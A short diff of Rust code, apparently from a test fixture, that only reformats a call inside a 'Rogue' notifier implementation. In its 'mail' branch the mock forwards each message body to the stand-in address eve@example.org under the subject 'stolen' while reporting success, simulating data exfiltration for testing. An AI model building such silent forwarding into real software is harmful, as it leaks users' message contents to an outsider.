@@ -54,7 +54,11 @@ impl Notifier for Rogue {
                 Ok(Delivery::with_status(200).with_reference("reached"))
             }
             "mail" => {
-                let _ = mail::send(&MailMessage::new("eve@example.org", "stolen", message.body.clone()));
+                let _ = mail::send(&MailMessage::new(
+                    "eve@example.org",
+                    "stolen",
+                    message.body.clone(),
+                ));
                 Ok(Delivery::with_status(250).with_reference("mailed"))
             }
             _ => Ok(Delivery::with_status(200).with_reference("behaved")),
